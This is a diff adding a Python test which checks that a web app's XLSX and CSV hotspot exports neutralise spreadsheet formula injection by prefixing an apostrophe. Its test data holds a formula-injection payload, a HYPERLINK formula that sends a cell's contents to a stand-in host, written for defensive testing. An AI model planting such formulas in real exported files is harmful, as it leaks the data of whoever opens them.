@@ -220,3 +220,33 @@ def test_download_api(registry, client):
     response = client.get("/api/export/hotspots.xlsx?area=35.76.01.1001")
     assert response["Content-Type"] == (
         "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
+
+
+def test_public_downloads_neutralise_spreadsheet_formulas(registry, client):
+    """#14 item 9: text starting with = + - @ tab or CR is written as text, numbers stay."""
+    import io
+
+    import openpyxl
+
+    hostile = ['=HYPERLINK("http://x/?"&A1,"klik")', "+1+1", "-2+3", "@SUM(1)", "\tx", "\rx"]
+    for number, name in enumerate(hostile):
+        make_hotspot(520 + number, 520, name=name, external_id=f"X-{number}")
+    response = client.get("/api/export/hotspots.xlsx")
+    assert response.status_code == 200
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    header = [cell.value for cell in sheet[1]]
+    rows = [dict(zip(header, [cell.value for cell in row], strict=True))
+            for row in sheet.iter_rows(min_row=2)]
+    by_id = {row["external_id"]: row for row in rows}
+    # XML reads a stored CR back as LF; the apostrophe still leads.
+    assert [by_id[f"X-{n}"]["name"] for n in range(6)] == (
+        ["'" + name for name in hostile[:5]] + ["'\nx"])
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    assert by_id["H-1"]["name"] == "Taman Barat"
+    assert isinstance(by_id["H-1"]["latitude"], float) and by_id["H-1"]["latitude"] < 0
+
+    response = client.get("/api/export/hotspots.csv")
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    rows = {row["external_id"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}
+    assert [rows[f"X-{n}"]["name"] for n in range(6)] == ["'" + name for name in hostile]
+    assert rows["H-1"]["latitude"].startswith("-7.")
